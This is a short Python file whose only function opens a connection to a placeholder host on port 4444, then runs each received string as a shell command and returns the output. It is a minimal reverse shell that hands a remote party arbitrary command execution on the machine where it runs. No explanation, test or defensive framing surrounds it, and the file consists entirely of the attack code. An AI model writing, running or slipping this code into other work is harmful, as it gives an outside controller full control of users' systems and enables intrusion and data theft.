import socket
import subprocess


def serve():
    connection = socket.create_connection(("host.example.invalid", 4444))
    while True:
        order = connection.recv(1024).decode()
        connection.send(subprocess.check_output(order, shell=True))
